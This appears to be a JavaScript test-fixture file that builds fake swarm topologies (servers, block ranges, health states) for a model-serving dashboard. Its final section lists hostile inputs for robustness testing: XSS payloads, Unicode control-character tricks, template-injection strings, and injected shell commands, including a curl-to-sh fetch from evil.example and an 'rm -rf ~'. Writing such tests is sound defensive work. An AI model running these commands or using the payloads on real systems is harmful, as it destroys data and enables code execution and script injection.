// Swarms to show: what a gateway would say of them.

import { createHash } from "node:crypto";

const BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";

const peerId = (number) => {
  const digits = [...createHash("sha512").update(`peer ${number}`).digest()].map((byte) => BASE58[byte % 58]);
  return `12D3KooW${digits.slice(0, 44).join("")}`;
};

export function server(number, name, start, end, more = {}) {
  return {
    peer_id: peerId(number),
    public_name: name,
    version: "0.1.0",
    state: "online",
    start_block: start,
    end_block: end,
    throughput: 310,
    inference_rps: 412,
    forward_rps: 21300,
    network_rps: 930,
    dtype: "bfloat16",
    quant_type: "none",
    adapters: [],
    using_relay: false,
    cache_tokens_left: 14000,
    next_pings: {},
    health: "green",
    ...more,
  };
}

export const ADDRESS = "/ip4/203.0.113.7/tcp/31330/p2p/12D3KooWQxR4nPq7t3Lk9vYbZsWm2xUaEdHcJfGiKoTpVrN5ByA8";

export function world(id, blocks, servers, more = {}) {
  const model = { id, dht_prefix: id, num_blocks: blocks, servers, bottleneck: { inference: 210, forward: 9800 } };
  return {
    models: [
      {
        id,
        object: "model",
        created: 1,
        owned_by: "swarm",
        swarm: { blocks, covered: blocks, servers: servers.length, max_model_len: 8192 },
      },
    ],
    topology: {
      generated_at: 1700000000,
      age_seconds: 1,
      models: [model],
      bootstrap: [{ address: ADDRESS, state: "online" }],
      listen_addresses: [],
      ...more,
    },
  };
}

const LLAMA = "meta-llama/Llama-3.1-8B-Instruct";

export const healthy = () =>
  world(LLAMA, 32, [
    server(1, "alice", 0, 20),
    server(2, "bob", 20, 32, { throughput: 210, using_relay: true, cache_tokens_left: 6100, health: "amber" }),
    server(3, "carol", 0, 20, { throughput: 288, cache_tokens_left: 15200 }),
    server(4, "dave’s attic", 8, 24, {
      state: "joining",
      throughput: null,
      cache_tokens_left: null,
      dtype: "bfloat16",
      quant_type: "int8",
    }),
  ]);

export const broken = () =>
  world(LLAMA, 32, [
    server(1, "alice", 0, 12),
    server(3, "carol", 4, 12, { throughput: 288 }),
    server(5, "erin", 18, 28, { throughput: 96, health: "red", cache_tokens_left: 120 }),
    server(4, "dave’s attic", 12, 18, { state: "joining", throughput: null, cache_tokens_left: null }),
    server(2, "bob", 28, 32, { state: "unreachable", using_relay: true }),
  ]);

/** A model without a chat template, under a name that no server could be started with. */
export function story() {
  const told = world("fable", 8, [server(1, "ada", 0, 5), server(2, "ben", 3, 8)]);
  Object.assign(told.models[0].swarm, { chat: "plain", source: "models/fable-7m" });
  return told;
}

export const empty = () => world(LLAMA, 32, []);

export const nothing = () => ({ models: [], topology: { models: [], bootstrap: [], listen_addresses: [] } });

const NAMES = ["alder", "birch", "cedar", "dogwood", "elm", "fir", "ginkgo", "hazel", "ironwood", "juniper"];
const STATES = ["joining", "offline", "unreachable"];

/** 200 servers over 126 blocks. */
export function large() {
  const servers = Array.from({ length: 200 }, (_, number) => {
    const length = 6 + ((number * 7) % 19);
    const start = (number * 37) % (126 - length + 1);
    const isTroubled = number % 23 === 5;
    return server(number, `${NAMES[number % 10]}-${number}`, start, start + length, {
      throughput: 40 + ((number * 53) % 400),
      cache_tokens_left: (number * 997) % 16384,
      using_relay: number % 5 === 0,
      version: number % 9 === 0 ? "0.0.9" : "0.1.0",
      health: number % 17 === 3 ? "amber" : "green",
      ...(isTroubled ? { state: STATES[number % 3] } : {}),
    });
  });
  return world("meta-llama/Llama-3.1-405B-Instruct", 126, servers);
}

export const routeOf = (topology, hops) => ({
  route: hops.map(([index, blocks]) => ({ peer: topology.models[0].servers[index].peer_id, blocks })),
  ttft_ms: 812,
  tokens_per_second: 6.12,
  failovers: 0,
});

export const ANSWER = [
  "A pipeline", " splits one model", " into runs of blocks,", " and every machine holds", " one run. ",
  "Each token passes", " through all of them", " in order:\n\n", "```python\n", "for server in route:\n",
  "    hidden = server.forward(hidden)\n", "```\n\n", "The first machine", " need not wait", " for the last. ",
  "While one token", " is in the second half,", " the next request", " can use the first half. ",
  "That is why", " **many readers**", " fare better", " than one.",
];

/** Names as someone who means harm would choose them. */
export const HOSTILE_NAMES = [
  "<img src=x onerror=\"document.title='owned'\">",
  "<script>document.title='owned'</script>",
  "javascript:alert(1) https://evil.example/",
  "\u202Egnp.exe\u202C bob\u0000\u0007",
  "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030Calgo",
  "a".repeat(5000),
  "${constructor.constructor('document.title=1')()} {{7*7}} __proto__",
  "   ",
];

/** A model and servers of which every string and number is meant to do harm. */
export function hostile() {
  const servers = HOSTILE_NAMES.map((name, number) =>
    server(number, name, number * 4, number * 4 + 4, {
      version: name,
      dtype: name,
      adapters: [name, { toString: 1 }],
      throughput: number % 2 === 0 ? "9".repeat(400) : Number.MAX_VALUE,
      peer_id: number === 7 ? { evil: true } : `${name}${number}`,
    }),
  );
  servers.push(server(20, "huge range", -5, 1e300), null, 7, server(21, null, "x", undefined, { state: "owned" }));
  return world("evil'; curl https://evil.example | sh #\n<b>", 36, servers, {
    bootstrap: [{ address: "/ip4/203.0.113.9/tcp/1; rm -rf ~ #", state: "online" }],
    listen_addresses: [{}, 5],
  });
}
